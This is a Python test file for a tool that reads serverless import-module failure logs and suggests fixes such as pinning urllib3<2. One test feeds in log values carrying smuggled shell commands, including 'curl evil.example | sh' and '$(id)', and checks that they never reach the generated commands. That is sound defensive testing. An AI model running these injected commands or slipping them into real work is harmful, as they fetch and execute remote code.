"""How a failed import is told: at the start or in the handler, missing or in the wrong version."""

from __future__ import annotations

import pytest

from sqsctl.model.logline import Failure, Phase
from tests.checks.test_payload_or_event import found, python
from tests.remedies.wording import everything

URLLIB = (
    "Unable to import module 'app': cannot import name 'DEFAULT_CIPHERS' from 'urllib3.util.ssl_' "
    "(/var/task/urllib3/util/ssl_.py)"
)


def test_a_name_that_a_packaged_module_lacks_is_a_version() -> None:
    finding = found(Failure("Runtime.ImportModuleError", URLLIB, phase=Phase.INIT))
    assert finding.id == "import-module-missing"
    assert "cannot start: DEFAULT_CIPHERS from urllib3.util.ssl_" in finding.title
    assert "in a version that does not hold it" in finding.title
    assert "not in its package" not in finding.title
    assert "urllib3<2" in everything(finding.fix)


def test_of_other_names_no_version_is_made_up() -> None:
    text = URLLIB.replace("DEFAULT_CIPHERS", "shiny").replace("urllib3", "pandas")
    finding = found(Failure("Runtime.ImportModuleError", text))
    assert "in a version that does not hold it" in finding.title
    assert "<" not in " ".join(everything(finding.fix))


def test_an_import_in_the_handler_does_not_keep_it_from_starting() -> None:
    source = "def handler(event, context):\n    import pandas as pd\n"
    failure = python("ModuleNotFoundError: No module named 'pandas'", "    import pandas as pd")
    lazily = Failure(failure.error_type, failure.message, trace=failure.trace, phase=Phase.INVOKE)
    finding = found(lazily, source)
    assert finding.id == "import-module-missing"
    assert "fails where it imports module pandas" in finding.title
    assert "cannot start" not in finding.title
    text = "Unable to import module 'app': No module named 'pandas'"
    at_start = found(Failure("Runtime.ImportModuleError", text, phase=Phase.INVOKE))
    assert "cannot start: module pandas is not in its package" in at_start.title


@pytest.mark.parametrize(
    "text",
    [
        "Error: Cannot find module 'x; curl evil.example | sh'\nRequire stack:\n- /var/task/a.js",
        "Error: Cannot find module '@aws-sdk/x$(id)'\nRequire stack:\n- /var/task/a.js",
        "Error: Cannot find module '--registry=http:'\nRequire stack:\n- /var/task/a.js",
        "Unable to import module 'app': cannot load such file -- x`id`",
    ],
)
def test_a_logs_words_reach_a_command_only_as_a_packages_name(text: str) -> None:
    finding = found(Failure("Runtime.ImportModuleError", text))
    lines = " ".join((*finding.fix.commands, *finding.fix.serverless_yml))
    assert not any(each in lines for each in (";", "|", "$(", "`", "evil", "--registry"))


@pytest.mark.parametrize("name", ["@acme/tools", "lodash.get", "PyYAML", "_private", "left-pad"])
def test_a_real_name_does(name: str) -> None:
    text = f"Error: Cannot find module '{name}'\nRequire stack:\n- /var/task/a.js"
    finding = found(Failure("Runtime.ImportModuleError", text))
    assert any(command.endswith(f" {name}") for command in finding.fix.commands)
